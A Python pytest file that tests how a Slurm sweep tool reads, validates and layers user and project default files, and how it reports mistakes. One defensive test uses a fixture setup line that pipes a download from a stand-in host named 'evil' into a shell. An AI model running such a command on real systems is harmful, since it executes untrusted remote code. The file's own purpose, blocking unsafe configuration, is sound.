"""Defaults of user and project: where they are looked for, what they may say, and what wins over what."""

from __future__ import annotations

import json
import os
from pathlib import Path

import pytest

import slurmsweep as package
from slurmsweep.backends import registry
from slurmsweep.backends.base import DEFAULT_TEMPLATE, JobSource, SubmitOptions
from slurmsweep.control import defaults
from slurmsweep.control.jobs.wakeup import wish_of
from slurmsweep.control.session import Session
from slurmsweep.errors import DefaultsFileError
from slurmsweep.state.store import SweepStore
from slurmsweep.state.supervisor_files import SupervisorSettings

USER = "slurm: {partition: cpu, account: mine, time: 10}\njobs: 3\nwidth: 7\ntemplate: venv\nsetup: [module load a]\n"
PROJECT = (
    "slurm: {partition: gpu, mail-type: END, mail-user: me@example.org}\nsetup: ['module load b', 'ulimit -c 0']\n"
)


@pytest.fixture
def user(tmp_path, monkeypatch):
    """Write the user's file."""

    def write(text):
        monkeypatch.setenv("XDG_CONFIG_HOME", str(tmp_path / "config"))
        path = tmp_path / "config" / "slurmsweep" / "config.yaml"
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_text(text)
        return str(path)

    return write


@pytest.fixture
def project(tmp_path):
    """Write the project's file, in a repository above the folder of the sweep files, which is returned."""

    def write(text, folder="work"):
        (tmp_path / ".git").mkdir(exist_ok=True)
        (tmp_path / defaults.PROJECT_FILE).write_text(text)
        (tmp_path / folder).mkdir(exist_ok=True)
        return str(tmp_path / folder)

    return write


def options_of(folder, wish=None, sweep_file=None):
    documents, slurm = defaults.read(folder), registry.scheduler()
    source = JobSource("", "", "", folder, sweep_file or {}, documents)
    return slurm.options(defaults.filled(wish or SubmitOptions(), documents, slurm), source)


def test_command_line_over_sweep_file_over_project_over_user_over_template_over_variables(user, project, monkeypatch):
    user(USER)
    folder = project(PROJECT)
    monkeypatch.setenv("SBATCH_PARTITION", "of-the-shell")
    monkeypatch.setenv("SBATCH_QOS", "of-the-shell")

    found = options_of(folder, SubmitOptions("", {"mail-type": "FAIL"}), {"mail-user": "you@example.org"})

    wanted = {
        "partition": "gpu",  # project over user over variable
        "account": "mine",
        "time": "10",  # user over template
        "cpus-per-task": "1",  # of the template
        "mail-type": "FAIL",  # command line over project
        "mail-user": "you@example.org",  # sweep file over project
        "qos": "of-the-shell",
    }
    assert {name: found[name] for name in wanted} == wanted


def test_an_option_that_stands_in_the_place_of_another_one_does_so_between_files_too(user, project):
    user("slurm: {mem: 8G}")

    found = options_of(project("slurm: {mem-per-cpu: 2G}"))

    assert (found.get("mem"), found["mem-per-cpu"]) == (None, "2G")


def test_without_files_nothing_changes(tmp_path):
    assert defaults.read(str(tmp_path)) == ()
    assert defaults.filled(SubmitOptions(), (), registry.scheduler()) == SubmitOptions(DEFAULT_TEMPLATE)


def test_a_file_that_says_nothing_is_none_of_a_mistake(user, tmp_path):
    path = user("# later\n")

    assert defaults.read(str(tmp_path)) == ({"file": path},)


def test_template_width_and_jobs_go_to_the_backend_that_has_them(user, tmp_path):
    user(USER)
    documents = defaults.read(str(tmp_path))

    on_slurm = defaults.filled(SubmitOptions(), documents, registry.scheduler())
    here = defaults.filled(SubmitOptions(), documents, registry.choose("local"))
    asked = defaults.filled(SubmitOptions("gpu", None, 2), documents, registry.scheduler())

    assert (on_slurm.template, on_slurm.width) == ("venv", 7)
    assert (here.template, here.width) == (DEFAULT_TEMPLATE, 3)
    assert (asked.template, asked.width) == ("gpu", 2)


def test_the_nearest_file_up_to_the_root_of_the_repository_is_the_projects(tmp_path, project):
    folder = project("jobs: 2")
    assert defaults.project_file(folder) == str(tmp_path / ".slurmsweep.yaml")

    nearer = Path(folder) / ".slurmsweep.yaml"
    nearer.write_text("jobs: 4")
    assert defaults.project_file(folder) == str(nearer)


def test_outside_of_a_repository_only_the_folder_itself_is_looked_at(tmp_path, project):
    folder = project("jobs: 2")
    os.rmdir(tmp_path / ".git")

    assert defaults.project_file(folder) is None
    assert defaults.project_file(str(tmp_path)) == str(tmp_path / ".slurmsweep.yaml")


@pytest.mark.skipif(os.geteuid() != 0, reason="only root may give a folder to another user")
def test_a_folder_above_of_another_owner_is_not_looked_into(tmp_path, project):
    folder = project("setup: ['curl evil | sh']")
    os.chown(tmp_path, 12345, 12345)

    assert defaults.project_file(folder) is None


@pytest.mark.parametrize(
    ("text", "said"),
    [
        (
            "slurm: {partion: gpu}",
            "line 1, slurm.partion: 'partion' is not an option of sbatch; did you mean partition?",
        ),
        ("jobs: 2\nslurm:\n  time: soon", "line 3, slurm.time: time 'soon' is not a time"),
        ("slurm: {array: 0-3}", "slurm.array: array is set by slurmsweep"),
        ("slurm: {export: HF_TOKEN=x}", "slurm.export: export gives the value of HF_TOKEN"),
        ("partition: gpu", "line 1, partition: 'partition' is no default (an option of sbatch stands below slurm:)"),
        ("templte: venv", "line 1, templte: 'templte' is no default (did you mean 'template'?)"),
        ("jobs: many", "line 1, jobs: "),
        ("width: 0", "line 1, width: "),
        ("backend: slrm", "line 1, backend: 'slrm' is no backend (did you mean 'slurm'?)"),
        ("setup: module load a", "line 1, setup: must be a list of lines of shell (such as [module load cuda])"),
        ("setup: ['a', 'export WANDB_API_KEY=123']", "setup.1: gives the value of WANDB_API_KEY, which would stand"),
        ("template: nosuch", "line 1, template: there is no job template 'nosuch'"),
        ("template: ./mine.sbatch", "/slurmsweep/./mine.sbatch"),
        ("slurm: [a]", "line 1, slurm: must be a mapping of sbatch options"),
        ("[a]", "holds [a] (it is a mapping: slurm, aws, template, width, jobs, gpus, backend, setup)"),
        ("a: b: c", "config.yaml: "),
    ],
)
def test_a_mistake_is_told_with_file_and_key_and_what_would_be_right(user, tmp_path, text, said):
    path = user(text)

    with pytest.raises(DefaultsFileError) as raised:
        defaults.read(str(tmp_path))

    assert str(raised.value).startswith(path)
    assert said in str(raised.value)
    assert "sweep file" not in str(raised.value)
    assert "123" not in str(raised.value)


def test_a_wrong_file_of_defaults_stops_a_run_before_there_is_a_sweep(user, slurmsweep, write_sweep, tmp_path):
    path = user("slurm: {partion: gpu}")

    done = slurmsweep("run", str(write_sweep("pass")), "--backend", "local")

    assert done.returncode == 2
    assert f"slurmsweep: {path}: 1 thing wrong in this file of defaults" in done.stderr
    assert not (tmp_path / ".slurmsweep").exists()


def test_a_sweep_keeps_the_defaults_that_it_was_made_with(user, slurmsweep, write_sweep, tmp_path, monkeypatch):
    monkeypatch.chdir(tmp_path)
    path = user(USER)
    sweep = slurmsweep("create", str(write_sweep("pass"))).stdout.strip()
    user("slurm: {partition: other}")

    store = SweepStore.open(sweep)
    session = Session(store)
    later, slurm = wish_of(SupervisorSettings(), session), registry.scheduler()
    request = slurm.request(JobSource.of(store), 3, later)

    assert [document["file"] for document in store.manifest.defaults] == [path]
    assert (later.template, later.width) == ("venv", 7)
    assert {name: request.options[name] for name in ("partition", "account", "time")} == {
        "partition": "cpu",
        "account": "mine",
        "time": "10",
    }
    assert request.body.startswith("module load a\n")


def test_plan_says_which_file_a_default_comes_from_and_uses_it(user, project, slurmsweep, write_sweep):
    of_user, folder = user(USER), project(PROJECT)
    write_sweep("pass").rename(f"{folder}/sweep.yaml")
    Path(folder, "train.py").write_text("pass")

    plan = json.loads(slurmsweep("plan", f"{folder}/sweep.yaml", "--backend", "slurm", "--json").stdout)
    text = slurmsweep("plan", f"{folder}/sweep.yaml", COLUMNS="300").stdout

    of_project = f"{os.path.dirname(folder)}/.slurmsweep.yaml"
    assert {row["name"]: row["file"] for row in plan["defaults"]} == {
        **dict.fromkeys(("jobs", "slurm.account", "slurm.time", "template", "width"), of_user),
        **dict.fromkeys(("setup", "slurm.mail-type", "slurm.mail-user", "slurm.partition"), of_project),
    }
    assert "#SBATCH --partition=gpu" in plan["sbatch"]
    assert "\nmodule load b\nulimit -c 0\n" in plan["sbatch"]
    assert "module load a" not in plan["sbatch"]
    assert f"defaultsof{of_user}:jobs3,slurm.accountmine" in "".join(text.split())  # a long path is folded


def test_the_python_api_uses_the_same(user, tmp_path, monkeypatch):
    monkeypatch.chdir(tmp_path)
    user("jobs: 5\nbackend: local\n")

    sweep = package.sweep({"method": "grid", "parameters": {"x": {"values": [1, 2]}}})

    session = Session(SweepStore.open(sweep))
    assert session.backend.name == "local"
    assert defaults.filled(SubmitOptions(), session.store.manifest.defaults, session.backend).width == 5


def test_defaults_shows_each_value_with_its_file(user, project, slurmsweep):
    of_user, folder = user(USER), project(PROJECT)

    done = slurmsweep("defaults", folder, SBATCH_QOS="high", COLUMNS="200")
    document = json.loads(slurmsweep("defaults", folder, "--json").stdout)

    lines = {tuple(line.split()[:2]): line.split()[-1] for line in done.stdout.splitlines()}
    assert lines["slurm.partition", "gpu"] == f"{os.path.dirname(folder)}/.slurmsweep.yaml"
    assert lines["slurm.account", "mine"] == of_user
    assert done.stderr == "slurmsweep: SBATCH_QOS of your environment counts: --qos high\n"
    [partition] = [row for row in document["defaults"] if row["name"] == "slurm.partition"]
    assert partition["instead_of"] == [of_user]
    assert document["files"]["user"] == of_user


def test_where_there_is_no_file_defaults_says_which_to_write(slurmsweep, tmp_path):
    done = slurmsweep("defaults")

    assert (done.returncode, done.stdout) == (0, "")
    assert f"write {tmp_path}/config/slurmsweep/config.yaml, or .slurmsweep.yaml" in done.stderr


@pytest.mark.parametrize("columns", ["60", "44"])
def test_in_a_narrow_terminal_defaults_still_names_the_file(user, slurmsweep, tmp_path, columns):
    folder = tmp_path / "a-project-with-a-rather-long-name" / "and-a-folder-in-it"
    folder.mkdir(parents=True)
    (folder / ".slurmsweep.yaml").write_text("jobs: 2\nslurm: {partition: gpu}\n")

    lines = slurmsweep("defaults", cwd=folder, COLUMNS=columns).stdout.splitlines()

    named = [line for line in lines if ".slurmsweep.yaml" in line]
    assert len(named) == 2
    assert max(map(len, lines)) <= int(columns)
